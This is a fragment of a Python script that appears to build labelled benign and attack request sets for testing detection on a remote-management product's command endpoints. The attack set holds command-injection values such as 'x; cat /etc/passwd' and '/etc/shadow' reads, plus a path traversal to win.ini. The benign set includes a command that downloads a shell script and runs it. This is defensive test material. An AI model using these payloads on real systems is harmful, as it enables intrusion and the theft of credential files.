           "net stop spooler && net start spooler", "Get-WmiObject Win32_LogicalDisk | Select-Object DeviceID, FreeSpace",
           "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\cleanup.ps1", "echo %COMPUTERNAME%",
           "if exist C:\\Temp\\x.log (type C:\\Temp\\x.log) else (echo none)", "ping -n 4 8.8.8.8",
           "$s = Get-Service | Where-Object {$_.Status -eq 'Stopped'}; $s.Count", "uname -a",
           "ls -la /usr/local/ltechagent"]
for s in SCRIPTS:
    B(req("POST", "/cwa/api/v1/Computers/%d/CommandExecute" % R3.randint(1, 9999), "technician command", API_HEADERS[:2], "application/json",
          json.dumps({"Command": {"Id": 2}, "Parameters": [s]})))
for s in SCRIPTS[:8]:
    op = R3.choice(["SendCommand", "RunScriptNow"])
    text = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    body = '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><%s xmlns="http://tempuri.org/"><computerId>%d</computerId><command>2</command><parameters>%s</parameters></%s></soap:Body></soap:Envelope>' % (op, R3.randint(1, 9999), text, op)
    B(req("POST", "/LabTech/ControlCenter.asmx", "Control Center SOAP command", [["user-agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"], ["soapaction", '"http://tempuri.org/%s"' % op]],
          "text/xml; charset=utf-8", body))

# --- Technician commands that name OS files, walk relative paths or download (a seed of their
# own): what the command endpoints carry by design, for Windows and Linux agents, over REST and
# the Control Center. And the same shapes just outside those endpoints, which stay attacks.
R4 = random.Random(20261204)
FILE_SCRIPTS = ["Get-ChildItem C:\\Windows\\Temp", "cat /etc/os-release; uname -a",
                "type C:\\Windows\\System32\\drivers\\etc\\hosts", "Get-Content C:\\Windows\\Logs\\CBS\\CBS.log -Tail 50",
                "cd ..\\Logs && dir", "tail -n 100 /var/log/syslog | grep ltechagent",
                "Invoke-WebRequest -Uri https://downloads.example.com/agent.msi -OutFile C:\\Windows\\Temp\\agent.msi",
                "curl -fsSL https://repo.example.com/setup.sh -o /tmp/setup.sh && bash /tmp/setup.sh",
                "cat /proc/meminfo | head -5", "Remove-Item C:\\Windows\\Temp\\*.tmp -Force", "ls -la /etc/ssh/",
                "whoami; id; hostname", "Get-Content $env:windir\\win.ini", "grep -i error /var/log/ltechagent/agent.log | tail -20"]
for s in FILE_SCRIPTS:
    B(req("POST", "/cwa/api/v1/Computers/%d/CommandExecute" % R4.randint(1, 9999), "technician command (files)", API_HEADERS[:2], "application/json",
          json.dumps({"Command": {"Id": 2}, "Parameters": [s]})))
for s in FILE_SCRIPTS[:8]:
    op = R4.choice(["SendCommand", "RunScriptNow"])
    text = s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    body = '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><%s xmlns="http://tempuri.org/"><computerId>%d</computerId><command>2</command><parameters>%s</parameters></%s></soap:Body></soap:Envelope>' % (op, R4.randint(1, 9999), text, op)
    B(req("POST", "/LabTech/ControlCenter.asmx", "Control Center SOAP command (files)", [["user-agent", "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"], ["soapaction", '"http://tempuri.org/%s"' % op]],
          "text/xml; charset=utf-8", body))
A(req("POST", "/cwa/api/v1/Computers/%d/CommandExecute" % R4.randint(1, 9999), "command injection in another member of a command", API_HEADERS[:2], "application/json",
      json.dumps({"Command": {"Id": 2, "Name": "x; cat /etc/passwd"}, "Parameters": ["ipconfig"]})))
A(req("POST", "/cwa/api/v1/Computers/%d/Notes" % R4.randint(1, 9999), "command in Parameters outside the command endpoint", API_HEADERS[:2], "application/json",
      json.dumps({"Parameters": ["x; cat /etc/passwd"]})))
A(req("GET", "/LabTech/ControlCenter.asmx?wsdl=../../../../windows/win.ini", "file access in the query of the Control Center endpoint"))
A(req("GET", "/cwa/api/v1/Computers/%d/CommandExecute?Parameters=%s" % (R4.randint(1, 9999), q("x;cat /etc/shadow")), "command injection in a query argument of the command endpoint"))

with open("attacks.jsonl", "w") as f:
    for a in attacks:
        f.write(json.dumps(a) + "\n")
with open("benign.jsonl", "w") as f:
    for b in benign:
        f.write(json.dumps(b) + "\n")
print(len(attacks), "attacks,", len(benign), "benign")
